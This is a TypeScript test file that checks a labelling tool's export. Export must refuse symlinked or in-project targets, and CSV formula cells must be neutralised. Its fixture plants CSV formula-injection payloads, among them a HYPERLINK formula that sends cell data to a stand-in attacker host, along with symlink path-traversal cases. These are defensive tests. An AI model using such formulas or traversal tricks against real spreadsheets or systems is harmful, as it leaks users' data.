import { createHash } from 'node:crypto';
import {
  copyFileSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApiService } from '../../src/core/api/service.ts';
import { httpUrls } from '../../src/core/api/urls.ts';
import { parseCsv } from '../../src/core/import/csv.ts';
import { nodeWorkerSpawner } from '../../src/worker/spawn-node.ts';
import { cli } from '../cli/run.ts';

const root = mkdtempSync(path.join(os.tmpdir(), 'spcxr-safe-export-'));
const P = path.join(root, 'project');
const db = path.join(P, 'project.sqlite');
const sha = (f: string) => createHash('sha256').update(readFileSync(f)).digest('hex');
let before = '';

/** A manifest whose cells a spreadsheet would run as formulas. */
function hostileManifest(): string {
  const dir = path.join(root, 'data');
  mkdirSync(dir);
  const src = path.resolve('test/fixtures/images');
  const rows = [
    ['00000061_012.png', '=HYPERLINK("http://evil.example/?x="&A1,"click")', '=1+1'],
    ['00001280_004.png', '+1+1', '@SUM(A1:A9)'],
    ['00001281_000.png', 'normal', '-2+3'],
  ];
  for (const [f] of rows) copyFileSync(path.join(src, f), path.join(dir, f));
  const csv = [
    'file,label,patient_id',
    ...rows.map((r) => r.map((c) => `"${c.replace(/"/g, '""')}"`).join(',')),
  ];
  writeFileSync(path.join(dir, 'manifest.csv'), `${csv.join('\n')}\n`);
  return path.join(dir, 'manifest.csv');
}

beforeAll(() => {
  expect(cli('init', P, '--classes', 'normal,pneumonia').code).toBe(0);
  const r = cli('import', P, '--manifest', hostileManifest(), '--json');
  expect(r.code, r.stderr).toBeLessThanOrEqual(1);
  before = sha(db);
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

/** The project still opens and answers after the refused export. */
function projectIntact() {
  expect(sha(db)).toBe(before);
  const ls = cli('ls', P, '--json');
  expect(ls.code, ls.stderr).toBe(0);
}

describe('export never writes onto or inside the project', () => {
  it('refuses --out project.sqlite', () => {
    const r = cli('export', P, '--format', 'csv', '--out', db);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/refusing to write onto or inside the project/);
    projectIntact();
  });

  it('refuses a symlink in exports/ that points at the database', () => {
    mkdirSync(path.join(P, 'exports'), { recursive: true });
    symlinkSync('../project.sqlite', path.join(P, 'exports', 'evil.csv'));
    const r = cli('export', P, '--format', 'csv', '--out', path.join(P, 'exports', 'evil.csv'));
    expect(r.code).not.toBe(0);
    projectIntact();
  });

  it('refuses a path through a symlinked folder, a project subfolder, and masks into the project', () => {
    symlinkSync('..', path.join(P, 'exports', 'up'));
    for (const args of [
      ['--format', 'csv', '--out', path.join(P, 'exports', 'up', 'labels.csv')],
      ['--format', 'csv', '--out', path.join(P, 'images', 'labels.csv')],
      ['--format', 'csv', '--out', P],
      ['--format', 'masks', '--out', path.join(P, 'exports', 'up')],
    ]) {
      const r = cli('export', P, ...args);
      expect(r.code, args.join(' ')).not.toBe(0);
    }
    // Through a symlink to the project folder itself, from outside.
    symlinkSync(P, path.join(root, 'alias'));
    expect(cli('export', P, '--format', 'csv', '--out', path.join(root, 'alias', 'x.csv')).code).not.toBe(0);
    projectIntact();
  });

  it('writes into exports/ and outside the project, with formula cells neutralised', () => {
    const r = cli('export', P, '--format', 'csv', '--out', path.join(P, 'exports', 'labels.csv'));
    expect(r.code, r.stderr).toBe(0);
    const out = path.join(root, 'out', 'labels.csv');
    expect(cli('export', P, '--format', 'csv', '--out', out).code).toBe(0);
    const rows = parseCsv(readFileSync(out, 'utf8')).map((x) => x.cells);
    const cells = rows.slice(1).flat();
    for (const c of cells) expect(c, c).not.toMatch(/^[=+\-@]/);
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(cells).toContain("'+1+1");
    expect(cells).toContain("'@SUM(A1:A9)");
    expect(cells).toContain("'=1+1");
    expect(cells).toContain("'-2+3");
    projectIntact();
  });

  it('the API refuses the same targets in every shell', async () => {
    for (const shell of ['in-process', 'serve'] as const) {
      const service = new ApiService({
        shell,
        urls: httpUrls,
        spawnWorker: nodeWorkerSpawner(),
        lockedProject: shell === 'serve' ? P : undefined,
      });
      try {
        await service.invoke('project.open', { path: P });
        for (const out of [db, path.join(P, 'exports', 'evil.csv'), path.join(P, 'exports', 'up', 'x.csv')])
          await expect(service.invoke('export.start', { format: 'csv', out })).rejects.toMatchObject({
            code: 'forbidden',
          });
      } finally {
        service.close();
      }
    }
    // Opening a session may write the database itself (settings, counters), so no hash here.
    expect(readFileSync(db).subarray(0, 15).toString()).toBe('SQLite format 3');
    expect(cli('ls', P, '--json').code).toBe(0);
  });
});
